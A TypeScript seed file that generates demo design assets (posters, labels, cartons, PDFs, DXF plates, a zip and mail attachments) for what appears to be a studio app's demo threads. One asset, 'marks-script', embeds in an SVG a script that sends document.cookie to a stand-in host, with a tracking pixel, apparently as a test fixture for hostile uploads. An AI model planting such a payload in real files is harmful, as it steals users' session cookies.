import { type CanLook, canLabel, shelfCard } from "#demo/seed/drawings/cans.ts";
import { coffeeBag, ginLabel, tinWrap } from "#demo/seed/drawings/labels.ts";
import { bannerFrame, markSheet, signatureLogo } from "#demo/seed/drawings/marks.ts";
import { DUSK, NIGHT, shopPage, tidePoster } from "#demo/seed/drawings/posters.ts";
import { ceramicShot, housing, serumPair, stool } from "#demo/seed/drawings/products.ts";
import { type Drawing, photographed, svg } from "#demo/seed/drawings/svg.ts";
import {
  cartonDieline,
  reportCover,
  reportPage,
  signPanels,
} from "#demo/seed/drawings/technical.ts";
import { docx } from "#demo/seed/formats/docx.ts";
import { illustratorPostScript } from "#demo/seed/formats/illustrator-eps.ts";
import { mp4 } from "#demo/seed/formats/mp4.ts";
import { illustratorPdf, type PdfPage, pdf } from "#demo/seed/formats/pdf.ts";
import { tnef } from "#demo/seed/formats/tnef.ts";
import { zip } from "#demo/seed/formats/zip.ts";
import { gif, jpeg, png, scan, webp } from "./raster.ts";
import { housingPlate, stoolNest, tapHandle } from "./workshop-drawings.ts";

export type Asset = { type: string; make: () => Promise<Buffer> };

const asset = (type: string, make: () => Buffer | Promise<Buffer>): Asset => ({
  type,
  make: async () => make(),
});
const asPng = (drawing: Drawing, width?: number) =>
  asset("image/png", () => png(drawing, width ? { width } : {}));
const asJpeg = (drawing: Drawing, width?: number) =>
  asset("image/jpeg", () => jpeg(drawing, width ? { width } : {}));
const asWebp = (drawing: Drawing) => asset("image/webp", () => webp(drawing));

const PDF = "application/pdf";
const AI = "application/postscript";
const DXF = "image/vnd.dxf";
const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const GREEN = "#2f5d50";
const LINE = "Festival of sea and sound";
const TABLE = "#8b6b4a";

/** What was asked for after the first version, and after the second. */
const heavier = { nameWeight: 24, band: 1330 };
const third = { ...heavier, sponsors: 5, lineSize: 40, lineTracking: 20 };
const night = { waters: NIGHT, line: LINE, date: "13-15 June", sunSize: 250, ...third };
/** Without the pale blue that the press loses. */
const press = { ...DUSK, waves: [...DUSK.waves.slice(0, 3), "#67aaa6"] };
const poster = {
  v1: tidePoster({ waters: DUSK, line: LINE, date: "12-14 June", sunSize: 230 }),
  v2: tidePoster({ waters: DUSK, line: LINE, date: "12-14 June", sponsors: 3, ...heavier }),
  v3: tidePoster({ waters: DUSK, line: LINE, date: "13-15 June", sunSize: 300, ...third }),
  v3Darker: tidePoster({ waters: press, line: LINE, date: "13-15 June", sunSize: 300, ...third }),
  night: tidePoster(night),
  nightWithoutBleed: tidePoster({ ...night, missing: 14 }),
};
const bag = {
  blue: coffeeBag({ ground: "#2a6f97", line: "#14344a", tag: "#c8553d", name: "Finca el Roble" }),
  clay: coffeeBag({ ground: "#b5573b", line: "#5e2a1c", tag: "#2f5d50", name: "Finca el Roble" }),
};
const can = (look: Partial<CanLook>) =>
  asPng(
    canLabel({
      ...{ ground: "#1d4e6b", wave: "#d9603b", name: 96, volumes: ["33 cl", "33 cl"] },
      ...{ beer: "India pale ale", deposit: "left", isQuiet: false },
      ...look,
    }),
  );
const card = (price: string) =>
  shelfCard({ price, ground: "#1d4e6b", line: "India pale ale from Marstrand" });
async function cardPages(price: string): Promise<PdfPage[]> {
  return [{ picture: await png(card(price)), size: [450, 300] }];
}
const dieline = (flap: number, barcodeX: number) =>
  cartonDieline({ flap, barcodeX, ground: "#7c3f34", title: "Arlette" });
const panels = (arrowB: "left" | "right", bold: number) =>
  signPanels({ ground: "#1f3a4d", accent: "#e0a526", arrowB, bold });
const bowl = (warmth: number, glaze = "#e9e1d2") =>
  ceramicShot({ wall: "#d9d3c7", table: "#b9a58c", glaze, shade: "#7f8f8a", warmth });

async function posterPdf(...pages: Drawing[]): Promise<Buffer> {
  const drawn = pages.map(async (page): Promise<PdfPage> => {
    return { picture: await jpeg(page, { width: 1600 }), size: [1190.55, 1683.78] };
  });
  return pdf("Tideline poster A2", await Promise.all(drawn));
}

async function reportProof(proof: number, year: number): Promise<Buffer> {
  const inner = await Promise.all(
    [4, 9, 11, 12, 27].map(async (page): Promise<PdfPage> => {
      const colors =
        proof > 1 ? ["#2f6f5e", "#e0a526", "#2a6f97"] : ["#2f6f5e", "#2a6f97", "#e0a526"];
      return { picture: await jpeg(reportPage({ page, colors, year }), { width: 900 }) };
    }),
  );
  return pdf(`Brightwell annual report, proof ${proof}`, [
    { picture: await jpeg(reportCover({ year, proof })) },
    ...inner,
    { heading: "Notes", lines: ["Reserved for the auditor's statement."] },
    { heading: "Imprint", lines: ["Design: Studio Lindqvist", "Paper: Munken Lynx 120 g"] },
  ]);
}

async function dielinePdf(flap: number, barcodeX: number): Promise<Buffer> {
  const outside = await png(dieline(flap, barcodeX));
  const pair = await jpeg(
    serumPair({ carton: "#e9d8cc", band: "#7c3f34", glass: "#8a5a3b", title: "Arlette" }),
  );
  return pdf("Arlette serum carton", [
    { picture: outside, size: [1110, 810] },
    { picture: pair, size: [700, 700] },
    { heading: "Finishing", lines: [`Glue flap ${flap} mm`, "Board 350 g, hot foil on the front"] },
  ]);
}

const SCRIPTED_SVG = svg(markSheet("#2d5bd7")).replace(
  "</svg>",
  `<script type="text/javascript">fetch("https://collect.brightmark.example/?c=" + document.cookie)</script><image href="https://collect.brightmark.example/pixel.png" width="1" height="1"/></svg>`,
);

const PIXEL = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

/** Every file of the seed, by a key that the threads use. */
export const ASSETS: Record<string, Asset> = {
  "logo-hadley": asPng(signatureLogo("Hadley & Rowe", GREEN)),
  "logo-vogel": asPng(signatureLogo("Druckerei Vogel", "#a8452f")),
  "logo-brightwell": asPng(signatureLogo("Brightwell", "#2f6f5e")),
  "logo-mikkelsen": asPng(signatureLogo("Mikkelsen Finer", "#5a4a78")),
  pixel: asset("image/gif", () => PIXEL),

  "gin-1": asPng(ginLabel({ logo: 0.8, green: "#3f7d63" })),
  "gin-2": asPng(ginLabel({ logo: 1, green: "#24493f" })),
  "gin-3": asPng(ginLabel({ logo: 1.05, green: GREEN, batch: "Batch 014" })),
  "gin-table": asJpeg(photographed(ginLabel({ logo: 1, green: "#24493f" }), 5, "#4b3a2c")),
  "gin-teaser": asset("video/mp4", () => mp4(6)),

  "poster-1": asPng(poster.v1),
  "poster-2": asPng(poster.v2),
  "poster-3": asPng(poster.v3),
  "poster-night": asJpeg(poster.night),
  "poster-wall": asJpeg(photographed(poster.v2, -4, TABLE)),
  "poster-pdf-1": asset(PDF, () => posterPdf(poster.v3, poster.nightWithoutBleed)),
  "poster-pdf-2": asset(PDF, () => posterPdf(poster.v3Darker, poster.night)),
  "poster-scan": asset("image/png", () => scan(poster.v3, 2180, 3083)),
  "poster-banner": asset("image/gif", () =>
    gif(Array.from({ length: 6 }, (_, step) => bannerFrame(step, 6))),
  ),

  "tin-1": asPng(tinWrap({ ground: "#e0a526", fish: "#14344a", weight: "115 g" })),
  "tin-2": asPng(tinWrap({ ground: "#e8b93f", fish: "#14344a", weight: "120 g" })),
  "tin-table": asJpeg(
    photographed(tinWrap({ ground: "#e0a526", fish: "#14344a", weight: "115 g" }), 8, "#6d7c82"),
  ),

  "bag-1": asPng(bag.blue),
  "bag-2": asPng(bag.clay),
  "bag-table": asJpeg(photographed(bag.blue, -7, "#a58a6a")),

  "can-1": can({}),
  "can-2": can({ name: 128 }),
  "can-3": can({ name: 128, volumes: ["44 cl", "33 cl"] }),
  "can-4": can({ name: 128, volumes: ["44 cl", "33 cl"], isQuiet: true }),
  "can-5": can({ ground: "#b08d57", name: 128, volumes: ["44 cl", "44 cl"], isQuiet: true }),
  "can-sand": can({ beer: "Pilsner", ground: "#b08d57", name: 128 }),
  "can-moss": can({ beer: "Pilsner", ground: "#4f6b3a", name: 128 }),
  "card-ai-1": asset(AI, async () => illustratorPdf("Shelf card", await cardPages("42 kr"))),
  "card-ai-2": asset(AI, async () => illustratorPdf("Shelf card", await cardPages("39 kr"))),
  "card-pdf-1": asset(PDF, async () => pdf("Shelf card, proof", await cardPages("42 kr"))),
  "card-pdf-2": asset(PDF, async () => pdf("Shelf card, proof", await cardPages("39 kr"))),
  "handle-a": asset(DXF, () => tapHandle({ length: 160, holes: 1 })),
  "handle-b": asset(DXF, () => tapHandle({ length: 160, holes: 2 })),
  "handle-c": asset(DXF, () => tapHandle({ length: 170, holes: 2 })),

  "bowl-1": asJpeg(bowl(0.02)),
  "bowl-2": asJpeg(bowl(0.13)),
  "bowl-3": asJpeg(bowl(0.05, "#b9c4c4")),
  "bowl-shop": asWebp(shopPage({ accent: "#4f6d7a", title: "Quiet tableware", wide: true })),
  "bowl-shop-phone": asWebp(shopPage({ accent: "#4f6d7a", title: "Quiet tableware", wide: false })),

  "carton-1": asset(PDF, () => dielinePdf(12, 760)),
  "carton-2": asset(PDF, () => dielinePdf(15, 800)),
  "carton-ai": asset(AI, async () =>
    illustratorPdf("Arlette carton", [{ picture: await png(dieline(15, 800)), size: [1110, 810] }]),
  ),
  "blossom-ai": asset(AI, () => illustratorPostScript("Arlette blossom")),
  "serum-shot": asJpeg(
    serumPair({ carton: "#e9d8cc", band: "#9c4a3c", glass: "#8a5a3b", title: "Arlette" }),
  ),

  "report-1": asset(PDF, () => reportProof(1, 2025)),
  "report-2": asset(PDF, () => reportProof(2, 2026)),
  "report-letter": asset(WORD, () =>
    docx("Letter from the chair", [
      "It was a year of wind, in more than one sense of the word.",
      "Our output grew by 8.4 per cent; the new site at Marsk Sands went on line in September.",
      "I thank everyone who climbed a tower in January.",
    ]),
  ),
  "report-chart": asset("image/svg+xml", () =>
    Buffer.from(
      svg(reportPage({ page: 11, colors: ["#2f6f5e", "#e0a526", "#2a6f97"], year: 2026 })),
    ),
  ),

  "proof-photo": asJpeg(
    photographed(tinWrap({ ground: "#d39a1e", fish: "#14344a", weight: "115 g" }), 2, "#c9ccd0"),
  ),
  "prepress-pdf": asset(PDF, async () =>
    pdf("Preflight", [
      {
        heading: "Preflight-Bericht",
        lines: ["Beschnitt: 2 mm (Soll 3 mm)", "Schwarz: 4-farbig auf Seite 1", "Schriften: ok"],
      },
      {
        picture: await png(
          cartonDieline({ flap: 9, barcodeX: 780, ground: "#14344a", title: "Solera" }),
        ),
        size: [1110, 810],
      },
    ]),
  ),

  "plate-1": asset(DXF, () => housingPlate({ wall: 2, holes: 4 })),
  "plate-2": asset(DXF, () => housingPlate({ wall: 2.5, holes: 6 })),
  "housing-1": asPng(housing({ shell: "#e6e2d8", led: "#4cc38a", vents: 4 })),
  "housing-2": asPng(housing({ shell: "#cfd6d4", led: "#e4572e", vents: 6 })),
  "housing-zip": asset("application/zip", async () =>
    zip([
      { name: "housing/top-plate.dxf", content: housingPlate({ wall: 2.5, holes: 6 }) },
      { name: "housing/README.txt", content: "Top plate and render. Millimetres.\r\n" },
      {
        name: "housing/render.png",
        content: await png(housing({ shell: "#cfd6d4", led: "#e4572e", vents: 6 })),
      },
    ]),
  ),
  "stool-1": asPng(stool({ wood: "#d8b98a", seat: "#b5573b", note: "Birch ply 18 mm" })),
  "stool-2": asPng(stool({ wood: "#d8b98a", seat: "#35566b", note: "Birch ply 21 mm" })),
  "stool-photo": asJpeg(stool({ wood: "#c9a878", seat: "#b5573b" }), 1000),
  "stool-nest": asset(DXF, () => stoolNest()),

  "panels-1": asset(PDF, async () =>
    pdf("Panels A-D", [{ picture: await png(panels("left", 11)), size: [1200, 675] }]),
  ),
  "panels-2": asset(PDF, async () =>
    pdf("Panels A-D", [{ picture: await png(panels("right", 15)), size: [1200, 675] }]),
  ),
  "marks-svg": asset("image/svg+xml", () => Buffer.from(svg(markSheet("#c8553d")))),
  "marks-script": asset("image/svg+xml", () => Buffer.from(SCRIPTED_SVG)),

  invoice: asset(PDF, () =>
    pdf("Invoice 1187", [
      { heading: "Invoice 1187", lines: ["Ledgerly subscription", "12.00 EUR", "Paid by card"] },
    ]),
  ),
  invite: asset("text/calendar", () =>
    Buffer.from(
      [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "METHOD:REQUEST",
        "BEGIN:VEVENT",
        "UID:print-check@druckerei-vogel.example",
        "SUMMARY:Andruck",
        "DTSTAMP:20260105T090000Z",
        "DTSTART:20260112T090000Z",
        "END:VEVENT",
        "END:VCALENDAR",
        "",
      ].join("\r\n"),
    ),
  ),
  winmail: asset("application/ms-tnef", async () =>
    tnef({
      subject: "Veneer samples",
      body: "Samples are listed in the attached file.",
      files: [
        {
          name: "veneer-list.txt",
          content: Buffer.from("Oak 0.6 mm, in stock\r\nBirch 1.5 mm, two weeks\r\n"),
        },
        {
          name: "birch.png",
          content: await png(stool({ wood: "#e2c99c", seat: "#e2c99c" }), { width: 300 }),
        },
      ],
    }),
  ),
};
